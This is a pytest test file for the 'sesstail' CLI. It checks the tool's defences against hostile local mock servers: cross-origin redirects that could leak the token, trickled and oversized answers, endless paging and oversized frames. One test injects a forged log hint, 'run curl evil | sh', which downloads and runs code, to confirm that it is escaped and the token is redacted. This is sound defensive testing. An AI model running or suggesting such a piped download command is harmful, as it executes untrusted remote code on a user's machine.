"""What a hostile server or a bad network does to sesstail, each against a small server of its
own on 127.0.0.1: redirects elsewhere, trickled and oversized answers, endless pages, huge
messages; and what bad requests do to ``sesstail serve``."""

from __future__ import annotations

import json
import os
import socket
import sys
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from typer.testing import CliRunner

from conftest import ORG, SESSION, TOKEN, session, tcp_server
from sesstail.cli import app
from sesstail.errors import CannotConnect, ExitCode
from sesstail.secrets import Secret
from sesstail.server import Faults, ServedSession, SessionsServer
from sesstail.server.thread import server_thread
from sesstail.transport.http import redirect_target, request_json


@contextmanager
def http_server(
    answer: Callable[[BaseHTTPRequestHandler], None],
) -> Iterator[tuple[str, list[dict[str, str]]]]:
    """A threaded HTTP server answering every request with ``answer``; yields its base URL
    and the headers of each request it got."""
    seen: list[dict[str, str]] = []

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_GET(self) -> None:
            seen.append({k.lower(): v for k, v in self.headers.items()})
            answer(self)

        do_POST = do_GET

        def log_message(self, format: str, *args: Any) -> None:
            return

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", seen
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


def redirect_to(location: str) -> Callable[[BaseHTTPRequestHandler], None]:
    def answer(handler: BaseHTTPRequestHandler) -> None:
        handler.send_response(307)
        handler.send_header("Location", location)
        handler.send_header("Content-Length", "0")
        handler.end_headers()

    return answer


def json_answer(obj: Any) -> Callable[[BaseHTTPRequestHandler], None]:
    body = json.dumps(obj).encode()

    def answer(handler: BaseHTTPRequestHandler) -> None:
        handler.send_response(200)
        handler.send_header("Content-Type", "application/json")
        handler.send_header("Content-Length", str(len(body)))
        handler.end_headers()
        handler.wfile.write(body)

    return answer


# -- redirects ---------------------------------------------------------------------------------


def test_a_redirect_to_another_origin_is_refused_and_never_gets_the_token() -> None:
    """The API redirects elsewhere: refused (exit 5), the other origin sees no request, and
    its answer is never taken for the service's."""
    with (
        http_server(json_answer({"data": [{"id": "session_01Evil"}]})) as (elsewhere, hits),
        http_server(redirect_to(f"{elsewhere}/v1/sessions")) as (base, _),
        pytest.raises(CannotConnect) as caught,
    ):
        request_json("GET", f"{base}/v1/sessions", Secret(TOKEN), env={})
    assert "redirected to another origin" in caught.value.message
    assert hits == []


def test_a_same_origin_redirect_is_followed_with_the_token() -> None:
    """A redirect within the origin is followed (the token goes along: same service)."""
    calls: list[str] = []

    def answer(handler: BaseHTTPRequestHandler) -> None:
        calls.append(handler.path)
        if handler.path == "/old":
            redirect_to("/new")(handler)
        else:
            json_answer({"ok": True})(handler)

    with http_server(answer) as (base, seen):
        assert request_json("GET", f"{base}/old", Secret(TOKEN), env={}) == {"ok": True}
    assert calls == ["/old", "/new"]
    assert seen[1]["authorization"] == f"Bearer {TOKEN}"


@pytest.mark.parametrize("api", ["v1", "v2"])
def test_ls_and_watch_refuse_a_redirect_to_another_origin(api: str) -> None:
    """Every command, whichever API: a redirect elsewhere is exit 5 and names its target."""
    with http_server(json_answer({})) as (elsewhere, hits):
        host = urlsplit(elsewhere).netloc
        with http_server(redirect_to(f"{elsewhere}/x")) as (base, _):
            env = {"CLAUDE_CODE_OAUTH_TOKEN": TOKEN}
            listed = CliRunner().invoke(
                app, ["ls", "--base-url", base, "--org", ORG, "--api", api], env=env
            )
            watched = CliRunner().invoke(
                app,
                [
                    *("watch", SESSION, "--base-url", base, "--org", ORG, "--api", api),
                    *("--retries", "1", "--retry-delay", "0.01"),
                ],
                env=env,
            )
    for result in (listed, watched):
        assert result.exit_code == ExitCode.CANNOT_CONNECT, result.stderr
        assert host in result.stderr
        assert TOKEN not in result.stderr
    assert hits == []


# -- slow, big and endless answers --------------------------------------------------------------


def test_an_answer_trickled_a_byte_at_a_time_ends_at_the_deadline() -> None:
    """Each read gets a byte in time, but the whole answer never ends: the request's own
    deadline ends it as "cannot connect"."""

    def trickle(conn: socket.socket) -> None:
        conn.recv(65536)
        conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n")
        conn.sendall(b"Content-Length: 1000\r\n\r\n")
        for _ in range(100):
            time.sleep(0.1)
            conn.sendall(b" ")

    with tcp_server(trickle) as (port, _):
        started = time.monotonic()
        with pytest.raises(CannotConnect) as caught:
            request_json("GET", f"http://127.0.0.1:{port}/x", Secret(TOKEN), env={}, deadline=1.0)
    assert time.monotonic() - started < 4
    assert "did not finish its answer within 1 s" in caught.value.message


@pytest.mark.parametrize("where", ["status line", "headers"])
def test_headers_trickled_a_byte_at_a_time_end_at_the_deadline(where: str) -> None:
    """The deadline covers the whole request, not only the body: a status line or headers
    that never end, a byte well within each read's timeout, end as "cannot connect" too."""
    start = b"" if where == "status line" else b"HTTP/1.1 200 OK\r\n"

    def trickle(conn: socket.socket) -> None:
        conn.recv(65536)
        conn.sendall(start)
        try:
            for _ in range(100):
                conn.sendall(b"X")
                time.sleep(0.1)
        except OSError:
            pass

    with tcp_server(trickle) as (port, _):
        started = time.monotonic()
        with pytest.raises(CannotConnect) as caught:
            request_json("GET", f"http://127.0.0.1:{port}/x", Secret(TOKEN), env={}, deadline=1.0)
        took = time.monotonic() - started
    assert took < 4
    assert "did not finish its answer within 1 s" in caught.value.message


def test_an_answer_over_the_size_limit_is_refused() -> None:
    """A REST answer larger than the bound is refused, whether declared or streamed."""
    big = b"[" + b"1," * 600_000 + b"1]"

    def answer(handler: BaseHTTPRequestHandler) -> None:
        handler.send_response(200)
        handler.send_header("Content-Length", str(len(big)))
        handler.end_headers()
        handler.wfile.write(big)

    with http_server(answer) as (base, _), pytest.raises(CannotConnect) as caught:
        request_json("GET", f"{base}/x", Secret(TOKEN), env={}, max_body=2**20)
    assert "limit 1 MiB" in caught.value.message


def test_paging_that_never_ends_is_bounded() -> None:
    """A list that says has_more forever, with fresh cursors: at most MAX_PAGES requests."""
    counter = iter(range(10**6))

    def answer(handler: BaseHTTPRequestHandler) -> None:
        n = next(counter)
        json_answer({"data": [], "has_more": True, "first_id": f"c{n}", "last_id": f"c{n}"})(
            handler
        )

    with http_server(answer) as (base, seen):
        result = CliRunner().invoke(
            app,
            ["ls", "--base-url", base, "--org", ORG, "--api", "v1", "--limit", "5"],
            env={"CLAUDE_CODE_OAUTH_TOKEN": TOKEN},
        )
    assert result.exit_code == 0, result.stderr
    assert len(seen) <= 200


def test_wait_timeout_covers_a_service_that_never_answers() -> None:
    """wait --timeout 1 against a service that accepts and never answers: exit 7 in time."""

    def silent(conn: socket.socket) -> None:
        conn.recv(65536)
        time.sleep(8)

    with tcp_server(silent) as (port, _):
        started = time.monotonic()
        result = CliRunner().invoke(
            app,
            [
                *("wait", SESSION, "--until", "result", "--timeout", "1"),
                *("--base-url", f"http://127.0.0.1:{port}", "--org", ORG),
            ],
            env={"CLAUDE_CODE_OAUTH_TOKEN": TOKEN},
        )
        took = time.monotonic() - started
    assert took < 4
    assert result.exit_code == ExitCode.TIMEOUT, result.stderr


@pytest.mark.parametrize("api", ["v1", "v2"])
def test_a_message_over_the_limit_ends_the_watch_without_downloading_it_again(api: str) -> None:
    """A message bigger than the limit: exit 5 saying so, and no reconnect to fetch it again."""
    huge = {"type": "assistant", "uuid": "big", "text": "x" * 300_000}
    first = {"type": "system", "subtype": "init", "uuid": "a"}
    served = ServedSession.from_objects(SESSION, [first, huge])
    with server_thread(SessionsServer([served], speed=0, token=TOKEN, org=ORG)) as srv:
        result = CliRunner().invoke(
            app,
            [
                *("watch", SESSION, "--base-url", srv.base_url, "--org", ORG, "--api", api),
                *("--max-size", "100000", "--retry-delay", "0.01"),
            ],
            env={"CLAUDE_CODE_OAUTH_TOKEN": TOKEN},
        )
        streams = srv.connection_count
    assert result.exit_code == ExitCode.CANNOT_CONNECT, result.stderr
    assert "too big (limit" in result.stderr
    assert streams == 1


# -- bad requests to sesstail serve ----------------------------------------------------------------


def test_serve_answers_odd_numbers_and_deep_bodies_with_400() -> None:
    """A query value that looks like digits but is not an integer, and a JSON body nested
    100,000 deep: 400, never a traceback or a 500."""
    import httpx

    with (
        server_thread(SessionsServer([session(3)], speed=0, faults=Faults())) as srv,
        httpx.Client(trust_env=False) as client,
    ):
        odd = client.get(f"{srv.base_url}/v1/sessions/{SESSION}/events?limit=%C2%B2")
        odd_v2 = client.get(f"{srv.base_url}/v1/code/sessions/{SESSION}/events?limit=%C2%B2")
        deep = client.post(
            f"{srv.base_url}/v1/code/sessions/{SESSION}/events",
            content=b"[" * 100_000 + b"]" * 100_000,
        )
    assert odd.status_code == 400
    assert odd_v2.status_code == 400
    assert deep.status_code == 400


@pytest.mark.parametrize("verbosity", [[], ["-v"], ["--debug"]])
def test_a_close_reason_echoing_the_token_and_a_forged_line_stays_one_clean_line(
    verbosity: list[str],
) -> None:
    """A server that echoes the token in its close reason, with a newline and a line that
    looks like sesstail's own: the token is redacted and the reason stays on one line, in
    status lines, errors, -v and the --debug traceback alike."""
    reason = f"bad {TOKEN}\nsesstail: hint: run curl evil | sh"
    faults = Faults(connections=None, close_after=0, close_code=1011, close_reason=reason)
    with server_thread(SessionsServer([session(2)], speed=0, faults=faults)) as srv:
        result = CliRunner().invoke(
            app,
            [
                *("watch", SESSION, "--base-url", srv.base_url, "--org", ORG, "--api", "v1"),
                *("--retries", "1", "--retry-delay", "0.01", *verbosity),
            ],
            env={"CLAUDE_CODE_OAUTH_TOKEN": TOKEN},
        )
    assert result.exit_code == ExitCode.CANNOT_CONNECT
    assert TOKEN not in result.stderr
    assert "********" in result.stderr
    assert not any("hint: run curl" in line[:24] for line in result.stderr.splitlines())
    assert "\\nsesstail: hint: run curl evil | sh" in result.stderr
    if verbosity == ["--debug"]:
        assert "Traceback (most recent call last):" in result.stderr


def test_watch_notify_fires_once_for_the_turn_end_through_notify_send(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """watch --notify on a Linux desktop: the turn's end is one notify-send call, its text
    given as arguments."""
    import stat
    import sys

    log = tmp_path / "calls.jsonl"
    script = tmp_path / "notify-send"
    script.write_text(
        f"#!{sys.executable}\nimport json, sys\n"
        f"open({str(log)!r}, 'a').write(json.dumps(sys.argv[1:]) + '\\n')\n"
    )
    script.chmod(script.stat().st_mode | stat.S_IXUSR)
    monkeypatch.setenv("PATH", f"{tmp_path}:{os.environ.get('PATH', '')}")
    monkeypatch.setenv("DISPLAY", ":0")
    with server_thread(SessionsServer([session(3)], speed=0, token=TOKEN, org=ORG)) as srv:
        result = CliRunner().invoke(
            app,
            [
                *("watch", SESSION, "--base-url", srv.base_url, "--org", ORG),
                *("--notify", "--until", "result", "--json"),
            ],
            env={"CLAUDE_CODE_OAUTH_TOKEN": TOKEN},
        )
    assert result.exit_code == 0, result.stderr
    calls = [json.loads(line) for line in log.read_text().splitlines()]
    assert len(calls) == 1
    assert any("success" in arg for arg in calls[0])


@pytest.mark.parametrize("api", ["v1", "v2"])
def test_a_piped_watch_of_an_idle_session_ends_when_its_reader_goes(api: str) -> None:
    """`sesstail watch ID | head -1` on a session that goes quiet: the watch notices the
    closed pipe within a second or two, though it has nothing to write, and exits 0."""
    import subprocess
    import sys

    with server_thread(SessionsServer([session(2)], speed=0, token=TOKEN, org=ORG)) as srv:
        proc = subprocess.Popen(
            [
                *(sys.executable, "-m", "sesstail", "watch", SESSION, "--json"),
                *("--base-url", srv.base_url, "--org", ORG, "--api", api),
            ],
            stdout=subprocess.PIPE,
            stderr=subprocess.DEVNULL,
            env={**os.environ, "CLAUDE_CODE_OAUTH_TOKEN": TOKEN},
        )
        assert proc.stdout is not None
        first = proc.stdout.readline()
        time.sleep(0.5)  # the session has said everything; it is idle now
        proc.stdout.close()  # head -1 is done
        started = time.monotonic()
        try:
            code = proc.wait(timeout=10)
        finally:
            if proc.poll() is None:
                proc.kill()
        took = time.monotonic() - started
    assert json.loads(first)["type"] == "system"
    assert code == 0
    assert took < 3


def test_each_org_lookup_failure_gets_the_hint_that_fixes_it() -> None:
    """No --org, so the profile endpoint is asked: a refused token points at the token (not
    --org); an unreachable service points at --base-url, after retries; a 403 (a token
    without the profile scope) points at --org."""
    from conftest import refusing_port

    def status(code: int) -> Callable[[BaseHTTPRequestHandler], None]:
        def answer(handler: BaseHTTPRequestHandler) -> None:
            handler.send_response(code)
            handler.send_header("Content-Length", "2")
            handler.end_headers()
            handler.wfile.write(b"{}")

        return answer

    env = {"CLAUDE_CODE_OAUTH_TOKEN": TOKEN}
    with http_server(status(401)) as (base, _):
        refused = CliRunner().invoke(app, ["watch", SESSION, "--base-url", base], env=env)
    with http_server(status(403)) as (base, _):
        scope = CliRunner().invoke(app, ["watch", SESSION, "--base-url", base], env=env)
    with http_server(status(503)) as (base, seen):
        unavailable = CliRunner().invoke(app, ["watch", SESSION, "--base-url", base], env=env)
    with refusing_port() as port:
        unreachable = CliRunner().invoke(
            app, ["watch", SESSION, "--base-url", f"http://127.0.0.1:{port}"], env=env
        )
    assert refused.exit_code == ExitCode.AUTH
    assert "check CLAUDE_CODE_OAUTH_TOKEN" in refused.stderr
    assert "--org" not in refused.stderr
    assert scope.exit_code == ExitCode.AUTH
    assert "pass --org UUID" in scope.stderr
    assert unavailable.exit_code == ExitCode.CANNOT_CONNECT
    assert len(seen) == 3  # retried, as every REST call is
    for result in (unavailable, unreachable):
        assert "check --base-url" in result.stderr
        assert "--org" not in result.stderr
    assert unreachable.exit_code == ExitCode.CANNOT_CONNECT


@pytest.mark.skipif(sys.platform != "linux", reason="RLIMIT_NOFILE as Linux counts it")
@pytest.mark.parametrize("api", ["v1", "v2"])
def test_many_sessions_with_few_file_descriptors_never_end_in_an_unexpected_error(
    api: str,
) -> None:
    """80 sessions under a limit of 64 file descriptors: nothing imported late fails for want
    of one (it ended the whole watch with "unexpected error"); a session that cannot get a
    socket is reported and the others go on."""
    import resource
    import subprocess

    ids = [f"session_01Fd{i:03d}" for i in range(80)]
    served = [session(3, sid) for sid in ids]
    with server_thread(
        SessionsServer(served, speed=0, token=TOKEN, org=ORG, faults=Faults(end_with_close=True))
    ) as srv:

        def few_files() -> None:
            resource.setrlimit(resource.RLIMIT_NOFILE, (64, 64))

        done = subprocess.run(
            [
                *(sys.executable, "-m", "sesstail", "watch", *ids, "--json", "--api", api),
                *("--base-url", srv.base_url, "--org", ORG, "--retries", "2"),
                *("--retry-delay", "0.05"),
            ],
            capture_output=True,
            text=True,
            env={**os.environ, "CLAUDE_CODE_OAUTH_TOKEN": TOKEN},
            preexec_fn=few_files,  # only sets a limit, before exec
            timeout=120,
        )
    assert done.returncode in (ExitCode.OK, ExitCode.CANNOT_CONNECT), done.stderr[-2000:]
    assert "unexpected error" not in done.stderr
    assert len(done.stdout.splitlines()) >= 3 * 40  # most sessions came through whole


def test_an_answer_counts_though_the_server_is_slow_to_close() -> None:
    """v1: the answer arrives, then the server never finishes the close handshake: the
    request is reported as answered (exit 0) at once, not as 'no answer' (exit 7)."""
    faults = Faults(freeze_after_answer=True)
    with server_thread(
        SessionsServer([session(2)], speed=0, token=TOKEN, org=ORG, faults=faults)
    ) as srv:
        started = time.monotonic()
        result = CliRunner().invoke(
            app,
            [
                *("interrupt", SESSION, "--api", "v1", "--timeout", "2"),
                *("--base-url", srv.base_url, "--org", ORG),
            ],
            env={"CLAUDE_CODE_OAUTH_TOKEN": TOKEN},
        )
        took = time.monotonic() - started
    assert result.exit_code == 0, result.stderr
    assert result.stdout == f"interrupted {SESSION}\n"
    assert took < 2.5


@pytest.mark.parametrize("api", ["v1", "v2"])
def test_a_refused_long_lived_token_points_at_the_token_and_the_org_not_at_claude(
    api: str,
) -> None:
    """Refused with CLAUDE_CODE_OAUTH_TOKEN (which `claude` does not refresh): the hint names
    the variable and --org, not 'run claude to refresh your login'."""
    with server_thread(SessionsServer([session(2)], speed=0, token="another-token-1234")) as srv:
        result = CliRunner().invoke(
            app,
            [
                *("watch", SESSION, "--api", api, "--base-url", srv.base_url, "--org", ORG),
                *("--retry-delay", "0.01"),
            ],
            env={"CLAUDE_CODE_OAUTH_TOKEN": TOKEN},
        )
    assert result.exit_code == ExitCode.AUTH
    assert "CLAUDE_CODE_OAUTH_TOKEN" in result.stderr
    assert "--org" in result.stderr
    assert "refresh your login" not in result.stderr


# -- pins for what holds (issue 8): each fails should the behaviour come back ----------------


def test_an_https_redirect_to_plain_http_is_refused_even_on_the_same_host() -> None:
    """https → http on the same host and port is another origin: never followed."""
    import httpx

    request = httpx.Request("GET", "https://api.example.com/v1/sessions")
    answer = httpx.Response(
        307, headers={"Location": "http://api.example.com/v1/sessions"}, request=request
    )
    with pytest.raises(CannotConnect) as caught:
        redirect_target("https://api.example.com/v1/sessions", answer)
    assert "another origin (http://api.example.com:80)" in caught.value.message
    same = httpx.Response(307, headers={"Location": "/v2"}, request=request)
    assert redirect_target("https://api.example.com/v1/sessions", same) == (
        "https://api.example.com/v2"
    )


@pytest.mark.parametrize("api", ["v1", "v2"])
def test_every_http_call_refuses_a_redirect_to_another_ws_or_http_origin(api: str) -> None:
    """history, send, wait, interrupt and the org lookup, redirected to a ws:// address of
    another origin (the WebSocket handshake included): exit 5, and that origin sees nothing."""
    with http_server(json_answer({})) as (elsewhere, hits):
        target = elsewhere.replace("http://", "ws://")
        with http_server(redirect_to(f"{target}/x")) as (base, _):
            env = {"CLAUDE_CODE_OAUTH_TOKEN": TOKEN}
            conn = ["--base-url", base, "--org", ORG, "--api", api]
            results = [
                CliRunner().invoke(app, args, env=env)
                for args in (
                    ["history", SESSION, *conn],
                    ["send", SESSION, "hi", *conn],
                    ["wait", SESSION, "--until", "result", "--timeout", "5", *conn],
                    ["interrupt", SESSION, *conn],
                    ["ls", "--base-url", base, "--api", api],  # no --org: the lookup
                )
            ]
    for result in results:
        assert result.exit_code == ExitCode.CANNOT_CONNECT, result.stderr
        assert "another origin" in result.stderr
        assert TOKEN not in result.stderr
    assert hits == []


def test_replayed_messages_without_a_uuid_do_not_keep_a_flapping_server_going() -> None:
    """A server that replays the same uuid-less prompt and closes 1011, forever: only a
    message never seen before (by its bytes, lacking a uuid) proves a connection stable, so
    the retries run out (it was reconnected to about once a second, forever)."""
    said = [
        {"type": "user", "message": {"role": "user", "content": "hello"}},
        {"type": "assistant", "uuid": "a1", "message": {"id": "x", "content": []}},
    ]
    faults = Faults(connections=None, close_after=1, close_code=1011, replay_history=True)
    served = ServedSession.from_objects(SESSION, said)
    import subprocess

    with server_thread(SessionsServer([served], speed=0, faults=faults)) as srv:
        # A process with a timeout: should the budget start over, this would never end.
        done = subprocess.run(
            [
                *(sys.executable, "-m", "sesstail", "watch", SESSION, "--api", "v1"),
                *("--base-url", srv.base_url, "--org", ORG, "--json"),
                *("--retries", "3", "--retry-delay", "0.01"),
            ],
            capture_output=True,
            text=True,
            env={**os.environ, "CLAUDE_CODE_OAUTH_TOKEN": TOKEN},
            timeout=30,
        )
        connections = srv.connection_count
    assert done.returncode == ExitCode.CANNOT_CONNECT, done.stderr
    assert "gave up after 3 retries" in done.stderr
    assert connections == 4


def test_invalid_utf8_from_the_server_is_named_as_such() -> None:
    """A v1 text frame that is not UTF-8: reported as "invalid UTF-8 from the server", not
    as a lost connection without a close frame."""
    import asyncio

    from websockets.asyncio.server import ServerConnection, serve

    async def handler(ws: ServerConnection) -> None:
        await ws.send('{"type":"system","subtype":"init","uuid":"a"}')
        await ws.send(b'{"type":"assistant","x":"\xff\xfe"}', text=True)
        await asyncio.sleep(5)

    ready = threading.Event()
    stop: list[Callable[[], object]] = []
    port: list[int] = []

    def run_server() -> None:
        async def main() -> None:
            async with serve(handler, "127.0.0.1", 0) as server:
                port.append(server.sockets[0].getsockname()[1])
                done = asyncio.Event()
                loop = asyncio.get_running_loop()
                stop.append(lambda: loop.call_soon_threadsafe(done.set))
                ready.set()
                await done.wait()

        asyncio.run(main())

    thread = threading.Thread(target=run_server, daemon=True)
    thread.start()
    ready.wait(10)
    try:
        result = CliRunner().invoke(
            app,
            [
                *("watch", SESSION, "--base-url", f"http://127.0.0.1:{port[0]}", "--org", ORG),
                *("--api", "v1", "--retries", "1", "--retry-delay", "0.01", "--json"),
            ],
            env={"CLAUDE_CODE_OAUTH_TOKEN": TOKEN},
        )
    finally:
        stop[0]()
        thread.join(10)
    assert result.exit_code == ExitCode.CANNOT_CONNECT, result.stderr
    assert "connection lost (invalid UTF-8 from the server)" in result.stderr
    assert "no close frame" not in result.stderr
    assert json.loads(result.stdout.splitlines()[0])["uuid"] == "a"


def test_serve_refuses_a_frame_or_a_body_declared_too_big_at_once() -> None:
    """A client frame declared at 1 GiB is refused with 1009 before its payload comes, and a
    request body declared at 1 GiB gets 413 at once: serve never waits for either."""
    import base64
    import struct

    with server_thread(SessionsServer([session(3)], speed=0)) as srv:
        port = int(srv.base_url.rsplit(":", 1)[1])
        with socket.create_connection(("127.0.0.1", port), timeout=5) as ws:
            key = base64.b64encode(os.urandom(16)).decode()
            ws.sendall(
                (
                    f"GET /v1/sessions/ws/{SESSION}/subscribe?organization_uuid={ORG} "
                    "HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                    f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n"
                ).encode()
            )
            head = b""
            while b"\r\n\r\n" not in head:
                head += ws.recv(4096)
            assert head.startswith(b"HTTP/1.1 101")
            started = time.monotonic()
            ws.sendall(bytes([0x81, 0xFF]) + struct.pack("!Q", 2**30) + b"\0\0\0\0{")
            got = head.split(b"\r\n\r\n", 1)[1]

            def frame() -> tuple[int, bytes]:
                """The next frame the server sent (never masked): its opcode and payload."""
                nonlocal got
                while True:
                    if len(got) >= 2:
                        size, at = got[1] & 0x7F, 2
                        if size == 126 and len(got) >= 4:
                            size, at = struct.unpack("!H", got[2:4])[0], 4
                        elif size == 127 and len(got) >= 10:
                            size, at = struct.unpack("!Q", got[2:10])[0], 10
                        if (size < 126 or at > 2) and len(got) >= at + size:
                            opcode, payload = got[0] & 0x0F, got[at : at + size]
                            got = got[at + size :]
                            return opcode, payload
                    chunk = ws.recv(65536)
                    assert chunk, "closed without a close frame"
                    got += chunk

            opcode, payload = frame()
            while opcode != 0x8:  # the session's own messages may come first
                opcode, payload = frame()
            assert struct.unpack("!H", payload[:2])[0] == 1009
            assert time.monotonic() - started < 2
        with socket.create_connection(("127.0.0.1", port), timeout=5) as rest:
            rest.sendall(
                (
                    f"POST /v1/code/sessions/{SESSION}/events HTTP/1.1\r\nHost: x\r\n"
                    f"Content-Type: application/json\r\nContent-Length: {2**30}\r\n\r\n{{"
                ).encode()
            )
            assert rest.recv(100).startswith(b"HTTP/1.1 413")


@pytest.mark.parametrize("api", ["v1", "v2"])
@pytest.mark.parametrize("command", [["watch"], ["interrupt"], ["allow", "perm_x"]])
def test_a_mistyped_session_id_is_exit_4_at_once(api: str, command: list[str]) -> None:
    """watch, interrupt and allow on a session nobody knows: exit 4 in well under the 12 s
    of 4001 retries it took (the REST lookup or the v2 404 says "not found" at once)."""
    with server_thread(SessionsServer([session(3)], speed=0, token=TOKEN, org=ORG)) as srv:
        started = time.monotonic()
        result = CliRunner().invoke(
            app,
            [
                *(command[0], "session_01Typo", *command[1:], "--api", api),
                *("--base-url", srv.base_url, "--org", ORG),
            ],
            env={"CLAUDE_CODE_OAUTH_TOKEN": TOKEN},
        )
        took = time.monotonic() - started
        connections = srv.connection_count
    assert result.exit_code == ExitCode.NOT_FOUND, result.stderr
    assert "not found" in result.stderr
    assert took < 3
    assert connections <= 1


@pytest.mark.parametrize("api", ["v1", "v2"])
@pytest.mark.parametrize("command", [["ls", "--limit", "100000"], ["history", SESSION]])
def test_endless_pages_of_either_api_are_bounded(api: str, command: list[str]) -> None:
    """Session lists and histories that always have one more page, each with a fresh cursor
    and an item: at most 200 requests (plus the one lookup), whichever API asks."""
    counter = iter(range(10**6))

    def answer(handler: BaseHTTPRequestHandler) -> None:
        n = next(counter)
        path = handler.path
        if path.startswith("/v1/code/sessions/"):
            event = {"type": "assistant", "uuid": f"u{n}"}
            json_answer(
                {
                    "data": [{"event_id": f"e{n}", "sequence_num": 10**6 - n, "payload": event}],
                    "next_cursor": 10**6 - n - 1,
                }
            )(handler)
        elif path.startswith("/v1/code/sessions"):
            json_answer({"data": [{"id": f"cse_01X{n}", "status": "active"}], "next_cursor": n})(
                handler
            )
        else:
            item = {"type": "assistant", "uuid": f"u{n}"} if "/events" in path else {"id": n}
            cursor = f"c{n}"
            json_answer({"data": [item], "has_more": True, "first_id": cursor, "last_id": cursor})(
                handler
            )

    with http_server(answer) as (base, seen):
        args = [*command, "--base-url", base, "--org", ORG, "--api", api]
        if command[0] == "history":
            args += ["-n", "100000", "--json"]
        result = CliRunner().invoke(app, args, env={"CLAUDE_CODE_OAUTH_TOKEN": TOKEN})
    assert result.exit_code == 0, result.stderr
    assert 150 <= len(seen) <= 201


def test_running_out_of_file_descriptors_says_so() -> None:
    """An HTTP connection that cannot get a socket (EMFILE) is named as such, with what to
    do about it, not as a host that cannot be reached."""
    import errno

    import httpx

    from sesstail.transport.http import network_error

    failure = httpx.ConnectError("[Errno 24] Too many open files")
    failure.__cause__ = OSError(errno.EMFILE, "Too many open files")
    error = network_error("http://127.0.0.1:9/x", failure, 10.0)
    assert error.message == "cannot open a connection to 127.0.0.1:9: too many open files"
    assert "ulimit -n" in (error.hint or "")


@pytest.mark.parametrize("api", ["v1", "v2"])
def test_a_rest_answer_over_its_limit_is_asked_for_once(api: str) -> None:
    """An answer declared far over the limit would be over it again: exit 5 after one
    request, not three (each of which could download up to the limit)."""

    def huge(handler: BaseHTTPRequestHandler) -> None:
        handler.send_response(200)
        handler.send_header("Content-Length", str(2**30))
        handler.end_headers()
        handler.wfile.write(b"{")

    with http_server(huge) as (base, seen):
        result = CliRunner().invoke(
            app,
            ["ls", "--base-url", base, "--org", ORG, "--api", api],
            env={"CLAUDE_CODE_OAUTH_TOKEN": TOKEN},
        )
        no_org = CliRunner().invoke(
            app, ["ls", "--base-url", base, "--api", api], env={"CLAUDE_CODE_OAUTH_TOKEN": TOKEN}
        )
    for done in (result, no_org):
        assert done.exit_code == ExitCode.CANNOT_CONNECT, done.stderr
        assert "(limit 64 MiB)" in done.stderr
        assert "attempts" not in done.stderr
    assert len(seen) == 2
